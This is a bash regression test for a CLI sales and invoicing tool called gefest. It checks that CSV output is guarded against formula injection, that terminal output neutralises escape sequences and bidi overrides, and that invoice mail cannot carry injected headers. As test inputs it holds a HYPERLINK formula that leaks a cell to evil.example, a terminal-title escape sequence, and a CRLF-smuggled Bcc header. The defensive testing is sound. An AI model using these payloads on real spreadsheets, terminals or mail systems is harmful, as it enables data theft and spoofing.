#!/bin/bash
# What gefest writes and prints is data, never commands (issue 13): no CSV cell it writes
# (registers, --format csv lists) starts a formula, and what it reads back is exactly what
# was entered; a dry run of invoice send prints no injected mail header; text output on
# the terminal shows control characters and bidi overrides as visible text.
. "$(dirname "$0")/lib/common.sh"

S=$T/share
demo_share "$S"
export GEFEST_SHARE=$S
CLIENTS="$S/Отдел продаж/ОФИС-МЕНЕДЖЕР/База клиентов.csv"
INDEX="$S/Отдел продаж/Заказы/2026/Заказы 2026.csv"
EVIL='=HYPERLINK("http://evil.example/?leak="&A1,"Ромашка")'
# no_formula FILE: no cell of FILE starts with = + - @ (a plain number aside)
no_formula() { grep -aE '(^|;)"?[=+@-][^0-9;]' "$1" | grep -avE '(^|;)"?-?[0-9]+([,.][0-9]+)?(;|$)' || true; }

# --- a client whose name is a formula: registers and lists guard it, reads give it back -------
expect_ok "client with a formula for a name" as petrov client add --name "$EVIL" --phone "+7 912 000-00-09" --manager petrov --source Выставка
ID=$(sed -n 's/^added client \([0-9]*\):.*/\1/p' <<<"$OUT" | head -1)
expect_match "client register: guarded" "^$ID;\"'=HYPERLINK" "$(tail -n 1 "$CLIENTS")"
expect_eq "client register: no formula" "" "$(no_formula "$CLIENTS")"
expect_ok "client show" as petrov client show "$ID"
expect_match "client show: the name as entered" "=HYPERLINK\(\"http://evil.example/\?leak=\"&A1,\"Ромашка\"\)" "$OUT"
expect_eq "client show: no apostrophe" "" "$(grep -F "'=HYPERLINK" <<<"$OUT")"
expect_ok "client list --format csv" as petrov --format csv client list
expect_match "client list csv: guarded" ";\"'=HYPERLINK" "$OUT"
printf '%s' "$OUT" >"$T/list.csv"
expect_eq "client list csv: no formula" "" "$(no_formula "$T/list.csv")"

expect_ok "order for that client" as petrov order new --client "$ID" --payment noncash --item ПК-100:1
expect_match "order index: guarded" ";\"'=HYPERLINK" "$(cat "$INDEX")"
expect_eq "order index: no formula" "" "$(no_formula "$INDEX")"
expect_ok "order list" as petrov order list
expect_match "order list: the name as entered" " =HYPERLINK" "$OUT"
expect_ok "order list --format csv" as petrov --format csv order list
printf '%s' "$OUT" >"$T/orders.csv"
expect_match "order list csv: guarded" "'=HYPERLINK" "$OUT"
expect_eq "order list csv: no formula" "" "$(no_formula "$T/orders.csv")"
expect_ok "call list --format csv" as petrov --format csv call list
expect_ok "an edit rewrites the register" as petrov client edit "$ID" --city Тюмень
expect_match "still guarded once" "^$ID;\"'=HYPERLINK" "$(grep "^$ID;" "$CLIENTS")"
expect_ok "check is clean" as boss check

# --- terminal: escape sequences and bidi overrides from a hand-edited register -------------
ESC=$'\x1b'
NOTE="${ESC}]0;pwned${ESC}\\ ${ESC}[2J $(printf '\u202e')gnp.exe"
awk -F';' -v OFS=';' -v id=2 -v note="$NOTE" 'NR > 1 && $1 == id { $15 = "\"" note "\"" } { print }' "$CLIENTS" >"$T/clients.csv" && cp "$T/clients.csv" "$CLIENTS"
expect_ok "client show of a hand-edited note" as petrov client show 2
expect_eq "no escape byte reaches the terminal" "" "$(grep -c "$ESC" <<<"$OUT" | grep -v '^0$')"
expect_match "shown as text" '\\x1B\]0;pwned\\x1B\\ \\x1B\[2J <U\+202E>gnp\.exe' "$OUT"
expect_ok "client list (text)" as petrov client list
expect_eq "list: no escape byte" "" "$(grep -c "$ESC" <<<"$OUT" | grep -v '^0$')"
expect_eq "list: no bidi override" "" "$(grep -c "$(printf '\u202e')" <<<"$OUT" | grep -v '^0$')"
expect_ok "the JSON is data: escaped by JSON" as petrov --format json client show 2
expect_match "JSON keeps the text" '\\u001b\]0;pwned' "$OUT"
expect_fail "a message with an escape in it" 2 '9\\x1B\[2J' as petrov client show "9${ESC}[2J"

# --- invoice send --dry-run: no injected header ----------------------------------------------
ready() {
    as petrov order stock "$1" >/dev/null && as petrov order lead-time "$1" --ask >/dev/null &&
        as kuznetsov order lead-time "$1" --days 10 >/dev/null && as petrov order lead-time "$1" --accept >/dev/null &&
        as petrov order export-1c "$1" -o "$T/o$1.xml" >/dev/null || fail "order $1 not made ready"
}
expect_ok "order of client 1" as petrov order new --client 1 --payment noncash --item ПК-100:1
N=$(sed -n 's/^order 2026-\([0-9]*\) created.*/\1/p' <<<"$OUT")
ready "$N"
expect_ok "contract" as petrov order contract "$N"
expect_ok "invoice" as petrov invoice issue "$N"
INV=$(sed -n 's/^invoice \(2026-[0-9]*\) .*/\1/p' <<<"$OUT")
expect_fail "an address with a header in it" 2 "is not an e-mail address" as petrov invoice send "$INV" --dry-run --to $'snab@example.ru\r\nBcc: spy@evil.example'
expect_eq "no Bcc line" "" "$(grep -a '^Bcc:' <<<"$OUT$ERR")"
sed -i 's/^name = "ООО «Гефест»"/name = "ООО «Гефест»\\r\\nBcc: spy@evil.example"/' "$S/gefest.toml"
expect_ok "dry run with a company name holding a line break" as petrov invoice send "$INV" --dry-run
expect_eq "dry run: no Bcc header line" "" "$(grep -a '^Bcc:' <<<"$OUT")"
expect_match "dry run: the subject on one line" '^Subject: .*ООО «Гефест»\\r\\nBcc: spy@evil\.example$' "$OUT"

finish
